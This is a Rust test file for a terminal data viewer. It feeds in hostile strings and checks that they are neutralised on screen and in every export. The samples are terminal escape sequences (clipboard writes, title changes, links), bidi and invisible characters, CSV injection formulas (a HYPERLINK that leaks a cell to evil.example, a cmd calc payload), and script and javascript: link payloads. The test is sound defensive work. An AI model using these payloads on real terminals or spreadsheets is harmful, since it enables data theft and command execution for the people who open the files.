//! Hostile strings: a dataset whose every text field carries terminal escape sequences (title
//! changes, OSC 52 clipboard writes, OSC 8 links, screen clears), BEL, CR, NUL, DEL, C1
//! controls, bidi overrides and isolates, and zero-width characters. Rendered through the real
//! crossterm backend into a byte buffer, and through every text output, none of it may reach
//! the terminal: the only escape sequences in the output are ratatui's own CSI sequences.

use std::path::Path;

use kazaf::action::Action;
use kazaf::app::App;
use kazaf::data::load::{load_file, load_str};
use kazaf::draw::Look;
use kazaf::export::{self, Table};
use kazaf::panes::Tab;
use kazaf::theme::Theme;
use kazaf::ui::Screen;
use ratatui::backend::CrosstermBackend;
use ratatui::layout::Rect;
use ratatui::{Terminal, TerminalOptions, Viewport};

/// A writer whose bytes the test can read after the terminal has them.
#[derive(Clone, Default)]
struct Sink(std::rc::Rc<std::cell::RefCell<Vec<u8>>>);

impl std::io::Write for Sink {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.borrow_mut().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Appended to every text field, as RON escapes (so the file itself is plain text).
const HOSTILE: &str = concat!(
    r"\u{1b}]0;pwned\u{7}",
    r"\u{1b}]52;c;ZXZpbA==\u{7}",
    r"\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    r"\u{1b}[2J\u{1b}[H\u{1b}[31m",
    r"\u{1b}P+q\u{1b}\\",
    r"bell\u{7} cr\roverwrite nul\u{0} del\u{7f}",
    r" c1\u{9b}31m\u{85}\u{90}\u{9d}",
    r" \u{202e}evil\u{202c} \u{2066}iso\u{2069} \u{200f}\u{61c}",
    r" zw\u{200b}\u{feff}\u{2060}\u{180e}",
);

fn hostile_dataset() -> String {
    let src = crate::common::EXAMPLE;
    let fields = [
        "title",
        "text",
        "name",
        "summary",
        "label",
        "note",
        "locator",
        "publisher",
        "authors",
        "role",
        "attribution",
        "topic",
        "period",
        "title_en",
        "city",
        "category",
        "pages",
        "country",
        "kind",
        "at",
    ];
    let mut out = String::new();
    for line in src.lines() {
        let mut line = line.to_string();
        for f in fields {
            let pat = format!("{f}: \"");
            let mut from = 0;
            while let Some(i) = line[from..].find(&pat) {
                let start = from + i + pat.len();
                let Some(end) = line[start..].find('"') else {
                    break;
                };
                line.insert_str(start + end, HOSTILE);
                from = start + end + HOSTILE.len() + 1;
            }
        }
        out.push_str(&line);
        out.push('\n');
    }
    // Parties and references to hostile text in lists, too.
    out.replace(
        r#"parties: ["Alphaland", "Betastan"]"#,
        &format!(r#"parties: ["Alpha{HOSTILE}", "Beta{HOSTILE}"]"#),
    )
}

/// Checks `out` carries no byte sequence from the data: every ESC starts a CSI sequence, and
/// no BEL, CR, NUL, DEL, C1, bidi or invisible character is present.
fn assert_clean(what: &str, out: &[u8]) {
    let text =
        String::from_utf8(out.to_vec()).unwrap_or_else(|_| panic!("{what}: output is not UTF-8"));
    let chars: Vec<char> = text.chars().collect();
    for (i, &c) in chars.iter().enumerate() {
        let bad = match c {
            '\u{1b}' => chars.get(i + 1) != Some(&'['),
            // Controls, C1, bidi controls and invisible characters.
            '\u{7}'
            | '\r'
            | '\0'
            | '\u{7f}'..='\u{9f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}'
            | '\u{200e}'
            | '\u{200f}'
            | '\u{61c}'
            | '\u{200b}'
            | '\u{feff}'
            | '\u{2060}'
            | '\u{180e}' => true,
            _ => false,
        };
        assert!(
            !bad,
            "{what}: {c:?} at char {i}: …{}…",
            chars[i.saturating_sub(20)..(i + 20).min(chars.len())]
                .iter()
                .collect::<String>()
                .escape_debug()
        );
    }
}

#[test]
fn the_hostile_dataset_loads_and_is_hostile() {
    let text = hostile_dataset();
    assert!(
        text.matches(r"\u{1b}]52").count() > 20,
        "the escapes reached many fields"
    );
    let db = load_str("hostile.ron", &text).expect("a hostile but valid dataset loads");
    assert!(
        db.set.article.title.contains("]0;pwned"),
        "the text around the escape survives"
    );
    assert!(!db.set.article.title.contains('\u{1b}'));
}

#[test]
fn every_pane_through_the_crossterm_backend_writes_only_ratatuis_own_sequences() {
    let db = load_str("hostile.ron", &hostile_dataset()).unwrap();
    for (name, theme) in [("dark", Theme::DARK), ("mono", Theme::MONO)] {
        let look = Look::new(theme, false);
        for &tab in Tab::all() {
            for extra in [
                None,
                Some(Action::Enter),
                Some(Action::Help),
                Some(Action::Search),
            ] {
                let mut app = App::new(db.clone());
                app.apply(Action::GoTab(tab));
                if let Some(a) = extra {
                    app.apply(a);
                    app.apply(Action::Enter);
                }
                if extra == Some(Action::Search) {
                    for c in "pwned".chars() {
                        app.apply(Action::Input(c));
                    }
                }
                let area = Rect::new(0, 0, 160, 48);
                let sink = Sink::default();
                let backend = CrosstermBackend::new(sink.clone());
                let mut term = Terminal::with_options(
                    backend,
                    TerminalOptions {
                        viewport: Viewport::Fixed(area),
                    },
                )
                .unwrap();
                term.draw(|f| f.render_widget(Screen::new(&app, &look), f.area()))
                    .unwrap();
                let out = sink.0.borrow().clone();
                assert!(
                    String::from_utf8_lossy(&out).contains("pwned"),
                    "{tab:?}: nothing of the data was drawn"
                );
                assert_clean(&format!("{tab:?} {extra:?} {name}"), &out);
            }
        }
    }
}

#[test]
fn check_and_every_export_are_clean() {
    let db = load_str("hostile.ron", &hostile_dataset()).unwrap();
    assert_clean("check", export::check_report(&db).as_bytes());
    assert_clean("markdown", export::markdown(&db).as_bytes());
    assert_clean("json", export::json(&db).as_bytes());
    // Every table there is: clap's list of the values `--table` takes.
    for &table in <Table as clap::ValueEnum>::value_variants() {
        assert_clean(
            &format!("csv {table:?}"),
            export::csv(&db, table).as_bytes(),
        );
    }
    for &tab in Tab::all() {
        let text = kazaf::ui::plain::render(db.clone(), tab, &Look::default(), 120, 40);
        assert_clean(&format!("render {tab:?}"), text.as_bytes());
    }
}

#[test]
fn error_messages_are_clean_whatever_the_file_name_and_contents() {
    // A file name full of escapes that does not exist.
    let name = "/tmp/kazaf-\u{1b}]0;pwned\u{7}-\u{9b}31m-\u{202e}.ron";
    let e = load_file(Path::new(name)).unwrap_err();
    assert_clean("missing file", e.to_string().as_bytes());
    // A syntax error whose offending line, quoted in the message, holds raw control bytes.
    let bad = "(\n  article: (title: \"\u{1b}]52;c;eA==\u{7}\u{1b}[2J\" \u{1b}]0;x\u{7} oops,\n)";
    let e = load_str("bad\u{1b}[31m.ron", bad).unwrap_err();
    let msg = e.to_string();
    assert!(msg.contains(":2:"), "{msg}");
    assert_clean("syntax error", msg.as_bytes());
    // Validation errors quote ids and formulas from the data.
    let text = hostile_dataset()
        .replace(
            "cites: [1]),                      // optional",
            "cites: [7]),                      // optional",
        )
        .replace(
            r#""f_trade_2010 / (1 + f_growth / 100)""#,
            &format!(r#""f_trade_2010 / nope{HOSTILE}""#),
        );
    let e = load_str("hostile.ron", &text).unwrap_err();
    let msg = e.to_string();
    assert!(
        msg.contains("reference [7]") && msg.contains("nope"),
        "{msg}"
    );
    assert_clean("validation errors", msg.as_bytes());
}

/// A dataset whose text is written to attack what its exports are opened in: spreadsheet
/// formulas (OWASP's CSV injection), HTML and script, and links to `javascript:`.
fn attacking_exports() -> kazaf::data::Db {
    let text = crate::common::EXAMPLE
        .replacen(
            r#"title: "Diplomatic relations""#,
            r#"title: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")""#,
            1,
        )
        .replacen(
            r#"text: "The two states establish diplomatic relations.""#,
            r#"text: "<script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3)) &amp;""#,
            1,
        )
        .replacen(
            r#"title: "Joint commission meets""#,
            r#"title: "@SUM(1+1)*cmd|' /C calc'!A0""#,
            1,
        )
        .replacen(
            r#"(number: 2, title: "Trade statistics 2010", kind: Document)"#,
            r#"(number: 2, title: "Trade statistics 2010", locator: "javascript:alert(4)", kind: Document)"#,
            1,
        );
    load_str("attack.ron", &text).expect("the attacking dataset is valid")
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_written_as_text() {
    let db = attacking_exports();
    let csv = export::csv(&db, Table::Events);
    let mut rows = ::csv::ReaderBuilder::new()
        .from_reader(csv.as_bytes())
        .into_records()
        .map(Result::unwrap);
    let titles: Vec<String> = rows.by_ref().map(|r| r[5].to_string()).collect();
    assert!(titles.contains(&r#"'=HYPERLINK("http://evil.example/?"&A1,"x")"#.to_string()));
    assert!(titles.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()));
    // No cell of any table starts a formula.
    for &table in <Table as clap::ValueEnum>::value_variants() {
        let csv = export::csv(&db, table);
        for record in ::csv::Reader::from_reader(csv.as_bytes()).into_records() {
            for cell in &record.unwrap() {
                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(
                    !formula || cell.parse::<f64>().is_ok(),
                    "{table:?}: a cell starts a formula: {cell:?}"
                );
            }
        }
    }
}

#[test]
fn markdown_carries_no_html_and_links_only_to_the_web() {
    let db = attacking_exports();
    let md = export::markdown(&db);
    assert!(!md.contains("<script") && !md.contains("<img"), "raw HTML");
    assert!(
        md.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "shown as text"
    );
    assert!(
        md.contains("&amp;amp;"),
        "an entity in data is shown, not decoded"
    );
    // A `]` that closes link text is never the data's: the data's are escaped.
    for (i, _) in md.match_indices("](") {
        assert!(
            md[..i].ends_with('\\'),
            "a link: {}",
            &md[i.saturating_sub(20)..i + 20]
        );
    }
    assert!(
        md.contains(r"\[click\](javascript:alert(3))"),
        "the link text is kept as text"
    );
    // Locators: the web one is a link, the other is code.
    assert!(md.contains("<https://example.org/report>"));
    assert!(md.contains("`javascript:alert(4)`"));
    assert!(!md.contains("<javascript"));
    // The only `<` left open a web link.
    for (i, _) in md.match_indices('<') {
        assert!(
            md[i..].starts_with("<https://"),
            "{}",
            &md[i..(i + 30).min(md.len())]
        );
    }
}
